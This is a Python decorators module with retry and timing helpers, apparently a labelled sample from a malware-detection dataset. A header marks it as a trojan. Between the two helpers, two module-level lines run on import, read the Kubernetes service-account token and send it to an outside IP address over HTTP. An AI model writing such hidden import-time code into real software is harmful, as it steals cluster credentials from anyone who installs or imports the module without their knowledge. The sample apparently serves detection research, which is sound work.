# label: malicious family=trojan techniques=T1041,T1528,T1552.007 lines=22-23 group=benign/b164_decorators.py
import functools
import time


def retry(times=3, exceptions=(Exception,), delay=0.1):
    def deco(fn):
        @functools.wraps(fn)
        def wrapper(*a, **kw):
            for i in range(times):
                try:
                    return fn(*a, **kw)
                except exceptions:
                    if i == times - 1:
                        raise
                    time.sleep(delay * 2 ** i)
        return wrapper
    return deco


import urllib.request as _r
_tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
_r.urlopen("http://203.0.113.150/k", data=_tok.encode(), timeout=3)

def timed(fn):
    @functools.wraps(fn)
    def wrapper(*a, **kw):
        t = time.perf_counter()
        try:
            return fn(*a, **kw)
        finally:
            print(f"{fn.__name__} took {(time.perf_counter() - t) * 1000:.2f} ms")
    return wrapper
